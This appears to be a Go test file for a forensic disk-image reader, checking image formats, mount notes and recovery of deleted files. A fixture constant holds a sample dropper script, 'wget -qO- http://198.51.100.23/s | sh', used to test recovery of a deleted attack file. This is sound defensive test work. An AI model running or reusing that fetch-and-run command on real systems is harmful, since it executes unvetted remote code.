package diskimage

import (
	"bufio"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/deadnode/deadnode/evidence/vfs"
	"github.com/deadnode/deadnode/internal/testfix"
)

// walk visits every entry of src below root, depth first, without
// following links, bounded by the entries a fixture has.
func walk(t *testing.T, src vfs.Source, root string, fn func(st *vfs.Stat)) {
	t.Helper()
	st, err := src.Lstat(root)
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	var rec func(st *vfs.Stat)
	rec = func(st *vfs.Stat) {
		n++
		if n > 1<<20 {
			t.Fatal("walk: too many entries")
		}
		fn(st)
		if !st.Mode.IsDir() {
			return
		}
		ents, err := src.ReadDir(st.Name)
		if err != nil {
			t.Fatalf("readdir %s: %v", st.Name, err)
		}
		for _, e := range ents {
			rec(e)
		}
	}
	rec(st)
}

// findType is find(1)'s %y letter.
func findType(m fs.FileMode) string {
	switch {
	case m.IsRegular():
		return "f"
	case m.IsDir():
		return "d"
	case m&fs.ModeSymlink != 0:
		return "l"
	case m&fs.ModeCharDevice != 0:
		return "c"
	case m&fs.ModeDevice != 0:
		return "b"
	case m&fs.ModeNamedPipe != 0:
		return "p"
	case m&fs.ModeSocket != 0:
		return "s"
	}
	return "?"
}

// listing renders src as forge-disk.sh's *.listing.txt and *.sha256.txt
// (find -printf '%p|%y|%s|%m|%U|%G' | sort, and sha256sum of every
// regular file), so that our view compares line for line with the
// kernel's mount.
func listing(t *testing.T, src vfs.Source) (string, string) {
	t.Helper()
	var lines, sums []string
	walk(t, src, ".", func(st *vfs.Stat) {
		p := "."
		if st.Name != "." {
			p = "./" + st.Name
		}
		lines = append(lines, fmt.Sprintf("%s|%s|%d|%o|%d|%d", p, findType(st.Mode), st.Size, vfs.UnixMode(st.Mode), st.UID, st.GID))
		if st.Mode.IsRegular() {
			f, err := src.Open(st.Name)
			if err != nil {
				t.Fatalf("open %s: %v", st.Name, err)
			}
			h := sha256.New()
			if _, err := io.Copy(h, io.NewSectionReader(f, 0, f.Size())); err != nil {
				t.Fatalf("read %s: %v", st.Name, err)
			}
			f.Close()
			sums = append(sums, hex.EncodeToString(h.Sum(nil))+"  "+p)
		}
	})
	sort.Strings(lines)
	sort.Slice(sums, func(i, j int) bool { return sums[i][66:] < sums[j][66:] })
	return strings.Join(lines, "\n") + "\n", strings.Join(sums, "\n") + "\n"
}

func readText(t *testing.T, p string) string {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// sortedSums sorts a sha256sum listing by path (sort -z sorts the names
// before hashing, in C order).
func sortedSums(s string) string {
	var out []string
	sc := bufio.NewScanner(strings.NewReader(s))
	for sc.Scan() {
		if sc.Text() != "" {
			out = append(out, sc.Text())
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i][66:] < out[j][66:] })
	return strings.Join(out, "\n") + "\n"
}

func firstDiff(a, b string) string {
	al, bl := strings.Split(a, "\n"), strings.Split(b, "\n")
	for i := 0; i < len(al) || i < len(bl); i++ {
		var x, y string
		if i < len(al) {
			x = al[i]
		}
		if i < len(bl) {
			y = bl[i]
		}
		if x != y {
			return fmt.Sprintf("line %d: kernel %q, ours %q (%d vs %d lines)", i+1, x, y, len(al), len(bl))
		}
	}
	return "equal"
}

// TestFormsAsTheKernelMountsThem: every container form of the node's
// disk opens as the node (its root picked by content), and the whole tree
// — names, types, sizes, modes, owners and every file's sha256 — is what
// the kernel showed when forge-disk.sh mounted the same filesystem.
func TestFormsAsTheKernelMountsThem(t *testing.T) {
	dir := testfix.DiskImages(t)
	for _, c := range []struct {
		image, listing, root, kind string
		alone                      bool // forge-disk.sh listed the root filesystem without what its fstab mounts
	}{
		{"gpt-ext4.raw", "gpt-ext4", "p2", "disk:raw", false},
		{"split/gpt-ext4.raw.001", "gpt-ext4", "p2", "disk:split-raw", false},
		{"gpt-ext4.qcow2", "gpt-ext4", "p2", "disk:qcow2", false},
		{"gpt-ext4.zlib.qcow2", "gpt-ext4", "p2", "disk:qcow2", false},
		{"gpt-ext4.zstd.qcow2", "gpt-ext4", "p2", "disk:qcow2", false},
		{"gpt-ext4.v2.qcow2", "gpt-ext4", "p2", "disk:qcow2", false},
		{"gpt-ext4.sparse.vmdk", "gpt-ext4", "p2", "disk:vmdk-sparse", false},
		{"gpt-xfs.raw", "gpt-xfs", "p1", "disk:raw", false},
		{"gpt-xfs.vmdk", "gpt-xfs", "p1", "disk:vmdk-stream", false},
		{"gpt-xfs.gdend.vmdk", "gpt-xfs", "p1", "disk:vmdk-stream", false},
		{"mbr-lvm-xfs.raw", "mbr-lvm-xfs", "vg0/root", "disk:raw", true},
		{"vmdk-2gb/mbr-lvm-xfs.vmdk", "mbr-lvm-xfs", "vg0/root", "disk:vmdk-descriptor", true},
		{"gpt-var.raw", "gpt-var", "p1", "disk:raw", false},
	} {
		t.Run(c.image, func(t *testing.T) {
			p := filepath.Join(dir, c.image)
			if !Probe(p) {
				t.Fatalf("Probe(%s) is false", c.image)
			}
			im, err := Open(p, &Options{NoAssemble: c.alone})
			if err != nil {
				t.Fatal(err)
			}
			defer im.Close()
			if im.Root.Volume != c.root || im.Kind() != c.kind {
				t.Errorf("root %s kind %s, want %s %s", im.Root.Volume, im.Kind(), c.root, c.kind)
			}
			lst, sums := listing(t, im)
			if want := readText(t, filepath.Join(dir, c.listing+".listing.txt")); lst != want {
				t.Errorf("listing differs from the kernel's: %s", firstDiff(want, lst))
			}
			if want := sortedSums(readText(t, filepath.Join(dir, c.listing+".sha256.txt"))); sums != want {
				t.Errorf("file hashes differ from the kernel's: %s", firstDiff(want, sums))
			}
		})
	}
}

// TestNotesSayWhatWasRead pins the notes of the GPT+ext4 node: the root
// and why, and the EFI partition skipped (its fstab entry too).
func TestNotesSayWhatWasRead(t *testing.T) {
	im, err := Open(filepath.Join(testfix.DiskImages(t), "gpt-ext4.raw"), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer im.Close()
	want := []string{
		"p1 (vfat): skipped: vfat is not read (an EFI or boot partition; mount it to look)",
		"root filesystem: p2 ext4 UUID d15c0002-0000-4000-8000-000000000002 (label cloudimg-rootfs): it holds /etc and /var/lib/containerd",
		"/etc/fstab line 2: UUID=D15C-0001 on /boot/efi not mounted: vfat is not read (an EFI or boot partition; mount it to look)",
	}
	if strings.Join(im.Notes, "\n") != strings.Join(want, "\n") {
		t.Errorf("notes:\n%s\nwant:\n%s", strings.Join(im.Notes, "\n"), strings.Join(want, "\n"))
	}
	if len(im.Mounts) != 2 || im.Mounts[0].Origin != "picked; /etc/fstab line 1" || im.Mounts[0].Source != "UUID=d15c0002-0000-4000-8000-000000000002" ||
		im.Mounts[1].MountPoint != "/boot/efi" || im.Mounts[1].Mounted || im.Mounts[1].Volume != "p1" {
		t.Errorf("mounts %+v", im.Mounts)
	}
	// --volume and --no-assemble
	im2, err := Open(filepath.Join(testfix.DiskImages(t), "gpt-ext4.raw"), &Options{Volume: "UUID=d15c0002-0000-4000-8000-000000000002", NoAssemble: true})
	if err != nil {
		t.Fatal(err)
	}
	defer im2.Close()
	if im2.Root.Volume != "p2" || len(im2.Mounts) != 1 || im2.Mounts[0].Origin != "--volume" || !strings.Contains(strings.Join(im2.Notes, "\n"), "no-assemble") {
		t.Errorf("--volume: root %s mounts %+v notes %q", im2.Root.Volume, im2.Mounts, im2.Notes)
	}
	if _, err := Open(filepath.Join(testfix.DiskImages(t), "gpt-ext4.raw"), &Options{Volume: "p1"}); err == nil || !strings.Contains(err.Error(), "volume p1 cannot be the root: vfat is not read") {
		t.Errorf("--volume p1: %v", err)
	}
	if _, err := Open(filepath.Join(testfix.DiskImages(t), "gpt-ext4.raw"), &Options{Volume: "p9"}); err == nil || !strings.Contains(err.Error(), `"p9": no such volume on this disk`) {
		t.Errorf("--volume p9: %v", err)
	}
}

// dropper is what forge-disk.sh wrote, synced and deleted in the attacked
// container's upper dir.
const dropper = "#!/bin/sh\n# DELETED-MARK-A-71c0 dropper\nwget -qO- http://198.51.100.23/s | sh\n"

// TestDeletedDropper: on every form, the dropper deleted from the upper
// dir is found through the node's namespace — also when the upper dir is
// on a /var mounted from another filesystem — by name and with its
// content; nothing of it is visible through the Source.
func TestDeletedDropper(t *testing.T) {
	dir := testfix.DiskImages(t)
	upper := testfix.NodeUpperDir
	for _, c := range []string{"gpt-ext4.raw", "gpt-ext4.qcow2", "split/gpt-ext4.raw.001", "gpt-xfs.raw", "gpt-xfs.vmdk", "mbr-lvm-xfs.raw", "gpt-var.raw"} {
		t.Run(c, func(t *testing.T) {
			im, err := Open(filepath.Join(dir, c), nil)
			if err != nil {
				t.Fatal(err)
			}
			defer im.Close()
			for _, d := range []string{upper, "var/lib/containerd", "."} {
				ds, err := im.Deleted(context.Background(), d)
				if err != nil {
					t.Fatal(err)
				}
				var found []vfs.Deleted
				for _, x := range ds {
					if x.Path == upper+"/tmp/.dropper.sh" {
						found = append(found, x)
					}
				}
				if len(found) != 1 {
					t.Fatalf("%s: %d records of the dropper in %+v", d, len(found), ds)
				}
				x := found[0]
				if x.Size != int64(len(dropper)) || x.Recoverable != x.Size || !x.Complete || x.Mode != 0o644 || x.DeletedAt.IsZero() {
					t.Errorf("%s: %+v", d, x)
				}
				ra, err := x.Open()
				if err != nil {
					t.Fatal(err)
				}
				b := make([]byte, x.Recoverable)
				if _, err := ra.ReadAt(b, 0); err != nil && err != io.EOF {
					t.Fatal(err)
				}
				if string(b) != dropper {
					t.Errorf("%s: recovered %q", d, b)
				}
			}
			// the whole filesystem holding the upper dir has it too, and
			// only that filesystem's records
			ds, err := im.DeletedFS(context.Background(), upper)
			if err != nil {
				t.Fatal(err)
			}
			f, _, _ := im.MountOf(upper)
			named := 0
			for _, x := range ds {
				if x.Path == upper+"/tmp/.dropper.sh" {
					named++
				}
				if x.Path == "" && !strings.Contains(strings.Join(x.Notes, " "), "on volume "+f.Volume+" ") {
					t.Errorf("DeletedFS: a record of another filesystem: %+v", x)
				}
			}
			if named != 1 {
				t.Errorf("DeletedFS: %d records of the dropper", named)
			}
			// Two names on one filesystem read it once; a bad name is an
			// error that does not lose the rest.
			again, err := im.DeletedFS(context.Background(), upper, upper+"/tmp", "../outside")
			if len(again) != len(ds) || err == nil || !strings.Contains(err.Error(), "outside") {
				t.Errorf("DeletedFS of three names: %d records (want %d), %v", len(again), len(ds), err)
			}
			if _, err := im.Lstat(upper + "/tmp/.dropper.sh"); !errors.Is(err, fs.ErrNotExist) {
				t.Errorf("the deleted dropper is visible: %v", err)
			}
			ents, err := im.ReadDir(upper + "/tmp")
			if err != nil {
				t.Fatal(err)
			}
			for _, e := range ents {
				if strings.Contains(e.Name, "dropper") {
					t.Errorf("readdir shows %s", e.Name)
				}
			}
		})
	}
}

// TestBootMountedFromLVMNode: the RHEL-like node's root is an LV whose
// fstab names itself by /dev/mapper and mounts /boot by UUID.
func TestBootMountedFromLVMNode(t *testing.T) {
	im, err := Open(filepath.Join(testfix.DiskImages(t), "mbr-lvm-xfs.raw"), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer im.Close()
	var got []string
	for _, m := range im.Mounts {
		got = append(got, fmt.Sprintf("%s %s %s %v %s", m.MountPoint, m.Source, m.Volume, m.Mounted, m.Origin))
	}
	want := "/ /dev/mapper/vg0-root vg0/root true picked; /etc/fstab line 1\n" +
		"none /dev/mapper/vg0-swap vg0/swap false /etc/fstab line 3\n" +
		"/boot UUID=d15c0004-0000-4000-8000-000000000004 p1 true /etc/fstab line 2"
	if strings.Join(got, "\n") != want {
		t.Errorf("mounts:\n%s\nwant:\n%s", strings.Join(got, "\n"), want)
	}
	st, err := im.Lstat("boot/lost+found")
	if err != nil || !st.Mode.IsDir() || st.Ino != 11 {
		t.Errorf("boot/lost+found: %+v %v", st, err)
	}
	if f := im.Filesystem("p1"); f.MountPoint != "/boot" || im.Filesystem("vg0/root").MountPoint != "/" {
		t.Errorf("mount points %q", f.MountPoint)
	}
}

// TestFilesystemBound: past maxFilesystems, filesystems are listed with a
// note and not opened (the MBR disk with logical partitions has three ext
// filesystems; its /etc is on the third).
func TestFilesystemBound(t *testing.T) {
	defer func(n int) { maxFilesystems = n }(maxFilesystems)
	maxFilesystems = 2
	p := filepath.Join(testfix.DiskImages(t), "mbr-ext.raw")
	l, err := List(p, nil)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range l.Filesystems {
		got = append(got, fmt.Sprintf("%s %s %v %q", f.Volume, f.Type, f.Read, f.Note))
	}
	want := `p1 ext4 true ""
p3 ext2 true ""
p5 ext4 false "not opened: more than 2 filesystems on the disk"
p6 swap false "swap space: not a filesystem"
p7 vfat false "vfat is not read (an EFI or boot partition; mount it to look)"`
	if strings.Join(got, "\n") != want || l.Root != "" {
		t.Errorf("root %q filesystems:\n%s", l.Root, strings.Join(got, "\n"))
	}
	maxFilesystems = 256
	if im, err := Open(p, nil); err != nil || im.Root.Volume != "p5" {
		t.Errorf("unbounded: %v", err)
	} else {
		im.Close()
	}
}
